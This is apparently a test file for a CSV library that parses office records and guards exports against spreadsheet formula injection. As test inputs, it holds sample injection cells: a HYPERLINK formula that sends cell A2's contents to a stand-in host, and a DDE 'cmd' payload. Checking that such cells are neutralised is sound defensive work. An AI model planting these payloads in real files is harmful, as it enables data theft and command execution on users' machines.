import { describe, expect, it } from "vitest";
import { formatCsv, officesToCsv, parseCsv, planOfficesCsv, readOfficesCsv, type FlowConfigBody } from "../src";
import { austinOffice, fieldOfficeTemplate } from "./factories";

describe("reading CSV", () => {
  it("skips a UTF-8 byte-order mark, as spreadsheets write it", () => {
    expect(readOfficesCsv("\uFEFFid,description\r\nOffice-A,First\r\n")).toEqual({
      header: { line: 1, cells: ["id", "description"] },
      records: [{ line: 2, cells: ["Office-A", "First"] }],
    });
  });

  it("numbers records by the line they start on, past quoted newlines and blank lines", () => {
    expect(parseCsv('id,note\n"A","two\nlines"\n\n\nB,x\n').map((record) => record.line)).toEqual([1, 2, 6]);
  });

  it("refuses an unterminated quote, naming the line, instead of swallowing the rest of the file", () => {
    expect(() => parseCsv('id,note\nA,"never closed\nB,x\nC,y\n')).toThrow(expect.objectContaining({ code: "InvalidInput", message: expect.stringMatching(/quote.*line \d/i) }));
  });

  it("refuses a stray quote inside an unquoted cell, naming the line", () => {
    expect(() => parseCsv('id,note\nA,"ok"\nB,say "hi"\n')).toThrow(expect.objectContaining({ code: "InvalidInput", message: expect.stringContaining("line 3") }));
  });

  it("reports a broken file as a problem of the import plan", () => {
    const { rows, problems } = planOfficesCsv('id\n"Office-A\n', { template: fieldOfficeTemplate(), existing: new Map(), lookupOwners: new Map() });
    expect(rows).toEqual([]);
    expect(problems).toEqual([expect.stringMatching(/quote/i)]);
  });
});

describe("CSV formula injection", () => {
  const formula = '=HYPERLINK("http://x/?"&A2,"Fix")';

  it.each([formula, "+SUM(A1:A2)", "-2+3", "+1+cmd|' /C calc'!A0", "@cmd", "\tTab", "\rReturn"])("writes %j with a leading ' so a spreadsheet shows it as text", (cell) => {
    expect(formatCsv([[cell]]).startsWith(`'`) || formatCsv([[cell]]).startsWith(`"'`)).toBe(true);
  });

  it.each(["+15125550100", "+15125550100 AUS", "-42", "Hello", "", "'quoted already"])("writes %j as it is (a phone number, lookup keys led by one, a number or plain text)", (cell) => {
    expect(parseCsv(formatCsv([[cell, "x"]]))[0]?.cells[0]).toBe(cell);
    expect(formatCsv([[cell, "x"]]).startsWith(`'${cell}`)).toBe(false);
  });

  it("re-imports an exported file unchanged, guarded cells included", () => {
    const cells = [formula, "'=already guarded", "''@twice", "+15125550100", "plain", " padded ", "-1", "+1 555"];
    const text = formatCsv([cells]);
    expect(text).not.toContain(",=HYPERLINK");
    expect(parseCsv(text)[0]?.cells).toEqual(cells);
  });

  it("guards an office's exported override and reads it back as it was", () => {
    const office = { ...austinOffice(), description: formula };
    const csv = officesToCsv(fieldOfficeTemplate() as FlowConfigBody, [office]);
    expect(csv).toContain(`"'=HYPERLINK(`);
    const { header, records } = readOfficesCsv(csv);
    expect(records[0]?.cells[header?.cells.indexOf("description") ?? -1]).toBe(formula);
  });
});
